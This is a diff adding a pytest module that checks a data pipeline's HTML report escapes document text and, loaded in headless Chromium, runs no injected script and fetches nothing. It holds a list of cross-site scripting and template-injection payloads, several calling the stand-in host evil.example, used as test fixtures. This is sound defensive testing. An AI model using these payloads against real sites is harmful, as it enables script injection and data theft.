@@ -1,0 +1,155 @@
+"""The report: everything escaped, nothing fetched, nothing run; looked at in a real browser."""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+import subprocess
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from pipeline.recipe import load
+from pipeline.report.html import histogram
+from pipeline.report.pairs import spans
+from pipeline.report.terminal import Silent
+from pipeline.run import run
+
+SEEDS = Path(__file__).parents[1] / "seeds"
+HOSTILE = (
+    "<script>document.title='pwned';fetch('http://evil.example/a')</script>",
+    "<img src=http://evil.example/b onerror=document.title='pwned'>",
+    "</style><style>@import 'http://evil.example/c';</style>",
+    "</script><svg onload=document.title='pwned'>",
+    "\"><iframe src='http://evil.example/d'></iframe>",
+    "{{ 7 * 191 }}{% raw %}",
+)
+CHROMIUM = next(
+    (
+        found
+        for name in ("chromium", "chromium-browser", "google-chrome")
+        if (found := shutil.which(name))
+    ),
+    None,
+)
+
+
+class Tags(HTMLParser):
+    """Collects the elements of a page and their attributes."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.names: set[str] = set()
+        self.attributes: list[tuple[str, str]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.names.add(tag)
+        self.attributes += [(name, value or "") for name, value in attrs]
+
+
+@pytest.fixture(scope="module")
+def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The report of a corpus in which markup stands wherever a report shows a document's text."""
+    folder = tmp_path_factory.mktemp("report")
+    source = folder / "in"
+    source.mkdir()
+    for path in SEEDS.glob("*.txt"):
+        (source / path.name).write_bytes(path.read_bytes())
+    text = min(SEEDS.glob("004*.txt")).read_text("utf-8")
+    rows = []
+    for i, attack in enumerate(HOSTILE):
+        middle = text[i * 50 : i * 50 + 900]
+        body = f"{attack}他说,好.\n{middle}\n扫一扫,关注{attack}\n责任编辑:{attack}"
+        rows.append(
+            {"id": f"x{attack}", "title": attack, "url": f"http://h/{attack}", "text": body}
+        )
+        rows.append({"id": f"y{i}{attack}", "text": body + "多一句。"})
+    lines = [json.dumps(row, ensure_ascii=False) for row in rows]
+    (source / "rows.jsonl").write_text("\n".join([*lines, "{broken " + HOSTILE[0]]), "utf-8")
+    flags = {"input.paths": [str(source)], "output.path": str(folder / "out"),
+             "output.name": HOSTILE[1]}  # fmt: skip
+    run(load(None, flags), Silent())
+    # A second version, so that the comparison has something to show.
+    run(load(None, {**flags, "punctuation.width": "keep"}), Silent())
+    return folder / "out" / "current" / "report.html"
+
+
+def test_markup_in_documents_never_becomes_markup(report: Path) -> None:
+    page = report.read_text("utf-8")
+    assert "evil.example" in page, "the attacks are shown"
+    assert page.count("<script>") == 1
+    assert page.count("<style>") == 1
+    assert "7 * 191" in page, "a template in a text is text"
+    seen = Tags()
+    seen.feed(page)
+    assert seen.names.isdisjoint({"img", "iframe", "link", "object", "embed", "base", "form"})
+    assert not [a for a in seen.attributes if a[0] == "src" or a[0].startswith("on")]
+    assert all(value.startswith("#") for name, value in seen.attributes if name == "href")
+    assert "default-src 'none'" in page
+
+
+def test_sections_come_in_the_order_in_which_people_ask(report: Path) -> None:
+    page = report.read_text("utf-8")
+    ids = re.findall(r'<section id="(\w+)"', page)
+    assert ids == [
+        "verdict", "funnel", "edits", "removed", "sites", "duplicates", "shape", "quarantine",
+        "reproduction",
+    ]  # fmt: skip
+    assert "Against v000001" in page
+    assert "punctuation.width" in page
+    assert "json-syntax" in page
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here; .ci/run installs one")
+def test_in_a_real_browser_nothing_runs_and_nothing_is_fetched(
+    report: Path, tmp_path: Path
+) -> None:
+    log, shot = tmp_path / "net.json", tmp_path / "report.png"
+    common = [
+        str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
+        "--no-first-run", "--disable-background-networking", "--disable-component-update",
+        "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=3000",
+    ]  # fmt: skip
+    dom = subprocess.run(
+        [*common, f"--log-net-log={log}", "--dump-dom", report.as_uri()],
+        capture_output=True, check=True, timeout=120,
+    ).stdout.decode()  # fmt: skip
+    title = re.search(r"<title>(.*?)</title>", dom, re.DOTALL)
+    assert title is not None
+    assert "pwned" not in re.sub(r"document\.title='pwned'", "", title[1].replace("&#39;", "'"))
+    assert not re.search(r"<(img|iframe)", dom)
+    assert 'aria-sort="none"' in dom, "our own script did run: tables can be sorted"
+    assert "evil.example" not in _requested(log)
+    subprocess.run(
+        [*common, "--window-size=390,1600", f"--screenshot={shot}", report.as_uri()],
+        capture_output=True, check=True, timeout=120,
+    )  # fmt: skip
+    assert shot.stat().st_size > 20_000, "a phone's screen full of report"
+
+
+def _requested(log: Path) -> str:
+    """Return every address that the browser asked for."""
+    events = json.loads(log.read_text("utf-8"))["events"]
+    return "\n".join(str(event.get("params", {}).get("url", "")) for event in events)
+
+
+def test_spans_show_where_two_texts_differ() -> None:
+    assert spans("甲乙丙丁", "甲乙戊丁") == [
+        ("same", "甲乙"),
+        ("del", "丙"),
+        ("ins", "戊"),
+        ("same", "丁"),
+    ]
+    shortened = spans("字" * 200 + "a", "字" * 200 + "b")[0][1]
+    assert len(shortened) < 100
+
+
+def test_histogram_draws_before_beside_after() -> None:
+    before, after = [0] * 24, [0] * 24
+    before[5], after[4] = 10, 5
+    bars = histogram(before, after)
+    assert [bar["label"] for bar in bars] == ["8", "16"]
+    assert bars[1]["h0"] == 150
+    assert bars[0]["h1"] == 75
